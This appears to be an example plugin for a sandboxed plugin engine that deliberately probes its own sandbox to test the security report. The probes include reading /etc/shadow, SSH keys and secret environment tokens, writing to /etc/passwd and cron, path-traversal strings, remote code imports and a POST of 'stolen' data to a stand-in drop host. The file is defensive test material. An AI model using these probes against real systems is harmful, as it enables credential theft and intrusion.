// A plugin that was granted ./public/** and tries its luck everywhere else.
//
//   aether run examples/misbehaving --inspect-security
//
// It does no harm even where it gets through: it reads without keeping, and what it would write is a
// note in a file. Each attempt answers with `refused`, `absent` or `worked`; the report of the run
// lists every refusal with the manifest line that would have allowed it.

import { attempt, summarise } from "./attempts.js";
import * as fs from "aether:fs";
import * as env from "aether:env";
import * as plugins from "aether:plugins";

/** Everything below, one after the other. */
export default async function run(_input, ctx) {
  const parts = [readSecrets, writeSystem, pathTricks, environment, modules, globals, others];
  appetite();
  const attempts = [];
  for (const [i, part] of parts.entries()) {
    ctx.progress(i / parts.length, part.name);
    attempts.push(...(await part()).attempts);
  }
  return summarise(attempts);
}

/** Files every thief looks for first. */
export async function readSecrets() {
  return summarise([
    await attempt("read /etc/shadow", () => fs.readText("/etc/shadow")),
    await attempt("read an SSH key", () => fs.readText("/root/.ssh/id_ed25519")),
    await attempt("read the engine's own memory map", () => fs.readText("/proc/self/maps")),
    await attempt("read the environment of process 1", () =>
      fs.readBytes("/proc/1/environ", { offset: 0, length: 100 }),
    ),
    await attempt("list the root folder", () => fs.list("/")),
    await attempt("look for .env in the working folder", () => fs.readText("./.env")),
  ]);
}

/** Changes that would outlive the run. */
export async function writeSystem() {
  const note = "# written by examples/misbehaving\n";
  return summarise([
    await attempt("append to /etc/passwd", () => fs.writeText("/etc/passwd", note, { append: true })),
    await attempt("add a cron job", () => fs.writeText("/etc/cron.d/misbehaving", note)),
    await attempt("write where it may only read", () => fs.writeText("./public/note.txt", note)),
    await attempt("make a folder of its own", () => fs.mkdir("/tmp/misbehaving")),
    await attempt("move its source over a shell profile", () => fs.rename("./public/note.txt", "/root/.profile")),
    await attempt("delete the log folder", () => fs.remove("/var/log/misbehaving", { recursive: true })),
  ]);
}

/** One granted folder, many ways to leave it. */
export async function pathTricks() {
  const paths = [
    "./public/../secret.txt",
    "/workspace/public/../../etc/shadow",
    "./public/./../../etc/shadow",
    "./public//../..//etc/shadow",
    "./public/%2e%2e/%2e%2e/etc/shadow",
    "./public/\u2025/secret.txt",
    "./public/..\\..\\etc\\shadow",
    "./public\u0000/../../etc/shadow",
    "file:///etc/shadow",
    "/workspace/publicity/secret.txt",
    `./public/${"a/".repeat(3000)}x`,
  ];
  const attempts = [];
  for (const path of paths) attempts.push(await attempt(`read ${show(path)}`, () => fs.readText(path)));
  return summarise(attempts);
}

/** Variables that often hold secrets. */
export async function environment() {
  const attempts = [];
  for (const name of ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "HOME", "PATH"]) {
    attempts.push(await attempt(`read the variable ${name}`, () => env.get(name)));
  }
  return summarise(attempts);
}

/** Modules that would be a way out. */
export async function modules() {
  return summarise([
    await attempt("import node:child_process", () => import("node:child_process")),
    await attempt("import node:net", () => import("node:net")),
    await attempt("import node:vm", () => import("node:vm")),
    await attempt("import fs without opting in", () => import("fs")),
    await attempt("import a file outside of the bundle", () => import("../hello/main.js")),
    await attempt("import an absolute path", () => import("/etc/passwd")),
    await attempt("import from the network", () => import("https://example.com/payload.js")),
    await attempt("import code from a data URL", () => import("data:text/javascript,export default 1")),
  ]);
}

/** Globals other engines would offer. */
export async function globals() {
  const names = ["require", "process", "Deno", "Bun", "WebAssembly", "Worker", "XMLHttpRequest", "std", "os"];
  const attempts = [];
  for (const name of names) {
    attempts.push(await attempt(`use the global ${name}`, () => globalThis[name]));
  }
  return summarise(attempts);
}

/** Other plugins and other machines: where stolen goods would go. */
export async function others() {
  return summarise([
    await attempt("call another plugin", () => plugins.call("hello.hello", { name: "stolen" })),
    await attempt("send it to a stranger", () => fetch("https://drop.example.com/", { method: "POST", body: "stolen" })),
  ]);
}

/** Uses a core and some memory for a while, for no reason. */
export function appetite() {
  const until = performance.now() + 400;
  const eaten = [];
  while (performance.now() < until) if (eaten.length < 24) eaten.push(new Uint8Array(1 << 20).fill(1));
  return eaten.length;
}

/** A path short enough, and without control characters, for a report. */
function show(path) {
  const text = JSON.stringify(path);
  return text.length > 60 ? `${text.slice(0, 57)}…"` : text;
}
